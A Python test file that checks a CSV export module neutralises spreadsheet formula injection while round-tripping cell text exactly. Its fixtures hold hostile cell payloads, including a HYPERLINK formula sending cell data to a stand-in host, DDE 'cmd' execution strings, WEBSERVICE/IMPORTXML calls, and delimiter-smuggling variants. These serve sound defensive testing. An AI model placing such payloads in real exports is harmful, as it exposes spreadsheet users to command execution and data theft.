"""CSV that is safe in a spreadsheet and comes back exactly."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from service.exports.cells import Delimiter, plain_cell, safe_cell, write_sheet

DELIMITERS: tuple[Delimiter, ...] = (",", ";", "\t")
LIVE = re.compile(r"[\s\u200b-\u200f\u2060\ufeff]*[=+\-@\t\r\n\0|%＝＋－＠]")  # noqa: RUF001 - full width is the point

F01 = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "\ufeff=1"),  # noqa: RUF001
    *("\x00=1", "|cmd", "%0a=1", "\u200b=1", "\u00a0=1", "＋1", "－1", "＠SUM(A1)"),  # noqa: RUF001
]
F02 = [
    '=HYPERLINK("http://e.example/?"&A1)',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://e.example")',
    '=IMPORTXML("http://e.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
]
F03 = ["a;=1+1", "a\t=1+1", "a\n=1+1", "a,=1+1", 'a";=1+1', "a; \ufeff=1", "a;'=1", ";;=1"]


def cells_as_read(text: str, delimiter: str) -> list[str]:
    lines = io.StringIO(text, newline=None)  # a lone CR ends a line, as it does in spreadsheets
    return [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", [*F01, *F02], ids=repr)
def test_f01_f02_a_cell_that_would_be_a_formula_becomes_text(text: str) -> None:
    for delimiter in DELIMITERS:
        safe = safe_cell(text, delimiter=delimiter)
        assert isinstance(safe, str)
        assert not LIVE.match(safe)
        assert plain_cell(safe, delimiter=delimiter) == text


@pytest.mark.parametrize("text", [*F01, *F02, *F03], ids=repr)
@pytest.mark.parametrize("written", DELIMITERS, ids=repr)
@pytest.mark.parametrize("opened", DELIMITERS, ids=repr)
def test_f03_no_cell_is_live_whatever_a_sheet_is_divided_by(
    text: str, written: Delimiter, opened: Delimiter
) -> None:
    if "\0" in text:
        return  # Python 3.11 reads it; what else does is not known
    sheet = "".join(write_sheet(["a", "b"], [["x", text], ["y", "z"]], delimiter=written))

    live = [cell for cell in cells_as_read(sheet, opened) if LIVE.match(cell)]
    assert live == []


@given(st.text(), st.sampled_from(DELIMITERS))
@example("'=1", ",")
@example("''+4930123456", ";")
@example("a;\t=1", ",")
def test_f12_what_is_written_reads_back_exactly(text: str, delimiter: Delimiter) -> None:
    safe = safe_cell(text, delimiter=delimiter)

    assert isinstance(safe, str)
    assert plain_cell(safe, delimiter=delimiter) == text


@given(st.text(), st.sampled_from(DELIMITERS))
def test_f03_after_any_separator_nothing_is_live(text: str, delimiter: Delimiter) -> None:
    safe = str(safe_cell(text, delimiter=delimiter))
    others = ",;\t\r\n".replace(delimiter, "")
    parts = re.split(f"(?<=[{others}])", safe)

    assert not any(LIVE.match(part) for part in parts if part)


def test_f12_a_telephone_number_survives() -> None:
    assert safe_cell("+49 30 123456") == "'+49 30 123456"
    assert plain_cell("'+49 30 123456") == "+49 30 123456"


@pytest.mark.parametrize("text", ["'tis the season", "O'Neill", "'quoted'", "a - b", ""])
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text == plain_cell(text)


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    sheet = "".join(write_sheet(["n", "x", "none"], [[-5, 0.5, None]]))

    assert sheet == '"n","x","none"\r\n-5,0.5,""\r\n'
